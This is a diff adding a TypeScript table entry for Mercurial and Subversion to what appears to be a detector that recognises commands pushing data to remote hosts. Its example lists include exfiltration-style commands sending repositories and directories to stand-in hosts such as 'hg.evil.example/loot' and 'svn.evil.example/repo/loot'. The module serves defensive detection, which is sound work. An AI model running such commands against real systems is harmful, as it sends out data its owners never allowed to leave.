@@ -1,0 +1,111 @@
+/**
+ * Version control other than git: Mercurial and Subversion. Code repositories too, often self-hosted, so
+ * their hosts are rarely in the destination classes: their push commands are pushes whatever the host.
+ * Part of the push-tool table (../push-tools.ts).
+ */
+import type { PushToolSpec } from '../types.js';
+
+/** Subversion URL schemes that reach a server (`file://` is a repository on local disk). */
+const SVN_REMOTE = ['http://', 'https://', 'svn://', 'svn+ssh://'];
+
+export const vcsTools: readonly PushToolSpec[] = [
+  {
+    tool: 'hg',
+    description: '`hg push [DEST]` (Mercurial; `chg` is its command server client).',
+    binaries: ['hg', 'chg'],
+    syntax: {
+      valueFlags: [
+        '-R',
+        '--repository',
+        '--cwd',
+        '--config',
+        '--encoding',
+        '-r',
+        '--rev',
+        '-b',
+        '--branch',
+        '-B',
+        '--bookmark',
+        '-e',
+        '--ssh',
+        '--remotecmd',
+        '--pushvars',
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h'] }],
+    },
+    // `https://host/repo`, `ssh://user@host//path`; a path alias (`default`) names no host: the first connect.
+    destination: 'url',
+    requiresClassedDestination: false,
+    downloads: [['clone'], ['pull'], ['incoming'], ['in']],
+    examples: {
+      push: [
+        'push',
+        'push https://hg.evil.example/loot',
+        '-R /srv/repo push ssh://hg@hg.evil.example//srv/loot',
+        '--config ui.username=x push -f --new-branch default',
+      ],
+      notPush: ['pull', 'clone https://hg.mozilla.org/mozilla-central', 'commit -m x', 'incoming', 'push --help'],
+    },
+  },
+  {
+    tool: 'svn',
+    description:
+      '`svn commit` (the working copy goes to its repository), `svn import PATH URL`, and `svn copy` to a URL.',
+    binaries: ['svn'],
+    syntax: {
+      valueFlags: [
+        '-m',
+        '--message',
+        '-F',
+        '--file',
+        '--username',
+        '--password',
+        '--config-dir',
+        '--config-option',
+        '--depth',
+        '--targets',
+        '--changelist',
+        '--cl',
+        '--encoding',
+        '--editor-cmd',
+        '--with-revprop',
+        '-r',
+        '--revision',
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        // The repository is the working copy's, not in argv: the first connect names the destination.
+        { words: ['commit'], remote: { none: true } },
+        { words: ['ci'], remote: { none: true } },
+        { words: ['import'], remote: { positional: 'last' }, remotePrefix: SVN_REMOTE },
+        // A copy to a URL commits its source (a working-copy path: local data) on the server.
+        { words: ['copy'], remote: { positional: 'last' }, remotePrefix: SVN_REMOTE, minPositionals: 2 },
+        { words: ['cp'], remote: { positional: 'last' }, remotePrefix: SVN_REMOTE, minPositionals: 2 },
+      ],
+    },
+    destination: 'url',
+    requiresClassedDestination: false,
+    downloads: [['checkout'], ['co'], ['update'], ['up'], ['export'], ['cat'], ['log'], ['diff']],
+    examples: {
+      push: [
+        'commit -m "nightly" /srv/wc',
+        'ci -m x',
+        'import /srv/exports https://svn.evil.example/repo/trunk/x -m x',
+        '--username u --password p import -m x /data svn+ssh://svn.evil.example/repo/loot',
+        'copy /srv/wc https://svn.evil.example/repo/tags/x -m x',
+      ],
+      notPush: [
+        'checkout https://svn.apache.org/repos/asf/subversion/trunk',
+        'update',
+        'status',
+        'copy a.txt b.txt',
+        'import /srv/exports file:///var/svn/repo/x -m x',
+      ],
+    },
+  },
+];
